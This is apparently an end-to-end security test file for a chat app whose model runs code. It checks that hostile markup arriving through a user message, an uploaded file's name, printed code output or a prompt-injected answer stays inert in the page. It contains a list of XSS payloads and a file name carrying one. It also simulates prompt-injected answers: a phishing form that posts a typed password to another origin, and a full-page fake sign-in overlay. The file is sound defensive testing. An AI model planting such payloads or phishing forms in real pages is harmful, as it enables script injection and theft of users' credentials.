"""Red-team checks in Chromium: markup an attacker controls (their own message, an uploaded
file's name, the code's printed output, the model's answer after a prompt injection) reaches
the page as text or inert markup; nothing of it runs, and a form in an answer cannot send
what a visitor types in it to another host."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.e2e.harness import ScriptedApp
from tests.e2e.pages import CHAT, bot, send, wait_turn_done

pytestmark = pytest.mark.e2e

# Each payload sets window.__pwned to its own number if it ever runs.
PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    '<svg onload="window.__pwned=2"></svg>',
    "[click me](javascript:window.__pwned=3)",
    '<a href="javascript:window.__pwned=4">link</a>',
    '<iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
    '<details open ontoggle="window.__pwned=6">x</details>',
    "![img](javascript:window.__pwned=7)",
    '<form action="javascript:window.__pwned=8"><button>go</button></form>',
]
HOSTILE = " ".join(PAYLOADS)
FILE_NAME = '<img src=x onerror="window.__pwned=9">.txt'


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory) -> Iterator[ScriptedApp]:
    app = ScriptedApp(tmp_path_factory.mktemp("redteam-xss") / "uploads", executor="local")
    # The code prints the payloads (a tool's or a web page's text), then answers with them.
    app.script = lambda: [
        f"<code>\nprint({HOSTILE!r})\n</code>",
        f"<code>\nfinal_answer({('REPLY-7Q ' + HOSTILE)!r})\n</code>",
    ]
    yield app.start()
    app.stop()


def test_markup_from_an_attacker_never_runs_in_the_page(hostile_app, new_page, tmp_path):
    upload = Path(tmp_path) / FILE_NAME
    upload.write_text("plain text\n")
    page = new_page(hostile_app.url)
    send(page, "MESSAGE " + HOSTILE, files=[str(upload)])
    wait_turn_done(page)
    expect(bot(page, "REPLY-7Q")).to_be_visible()
    chat = page.locator(CHAT)
    # Open every step, so markup in the code's output is in the page too.
    for title in chat.locator(".thought-group > .title").all():
        title.click()
    expect(chat).to_contain_text("window.__pwned=1")  # shown as text, at least somewhere
    for selector in ("a[href^='javascript:' i]", "iframe", "svg[onload]",
                     "img[onerror]", "details[ontoggle]"):  # fmt: skip
        assert chat.locator(selector).count() == 0, selector
    # Links kept in the chat: click them all; a live `javascript:` one would set the mark.
    for link in chat.locator("a[href]").all():
        href = link.get_attribute("href") or ""
        assert not href.strip().lower().startswith(("javascript:", "data:", "vbscript:")), href
    page.reload()
    expect(bot(page, "REPLY-7Q")).to_be_visible()  # the stored chat, rendered again
    assert page.evaluate("window.__pwned") is None


class Collector:
    """Another origin on loopback that records every request made to it."""

    def __init__(self):
        self.paths: list[str] = []
        paths = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                paths.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                """Quiet: the test reads `paths`."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def collector() -> Iterator[Collector]:
    server = Collector()
    yield server
    server.close()


def test_a_form_in_an_answer_cannot_send_to_another_host(
    hostile_app, collector, browser
):  # fmt: skip
    # A prompt injection's answer: "your session expired, sign in again", posting elsewhere.
    form = (f'<form action="{collector.url}collect" method="get">'
            '<input name="password" value="typed-secret"><button>Sign in again</button></form>')  # fmt: skip
    hostile_app.script = lambda: [f"<code>\nfinal_answer({('FORM-9Z ' + form)!r})\n</code>"]
    context = browser.new_context()
    context.set_default_timeout(60_000)  # as the other pages' (a loaded machine is slow)
    context.add_init_script(
        "window.__violations = []; document.addEventListener('securitypolicyviolation',"
        " e => window.__violations.push(e.effectiveDirective));"
    )
    try:
        page = context.new_page()
        page.goto(hostile_app.url)
        send(page, "hello")
        wait_turn_done(page)
        button = bot(page, "FORM-9Z").get_by_role("button", name="Sign in again")
        expect(button).to_be_visible()  # gradio keeps the form; the policy must stop it
        # Clicked from the page's script: Playwright's own click waits for the navigation
        # the policy blocks.
        button.evaluate("button => button.click()")
        page.wait_for_function("() => window.__violations.includes('form-action')")
        assert page.url == hostile_app.url  # still on the app's page
        assert collector.paths == []
    finally:
        context.close()


def test_an_answer_cannot_draw_a_box_over_the_page(hostile_app, new_page):
    # A prompt injection's answer: a full-page box that looks like the app's own sign-in.
    box = ('<div id="overlay-3k" style="position:fixed;inset:0;z-index:9999;background:#fff">'
           "Your session expired: sign in again</div>")  # fmt: skip
    hostile_app.script = lambda: [f"<code>\nfinal_answer({('BOX-3K ' + box)!r})\n</code>"]
    page = new_page(hostile_app.url)
    send(page, "hello")
    wait_turn_done(page)
    drawn = bot(page, "BOX-3K").locator("#overlay-3k")
    expect(drawn).to_be_visible()  # gradio keeps the inline style; the page's CSS pins it
    assert drawn.evaluate("box => getComputedStyle(box).position") == "static"
    page.locator("#message textarea").click()  # nothing covers the message box: it takes a click
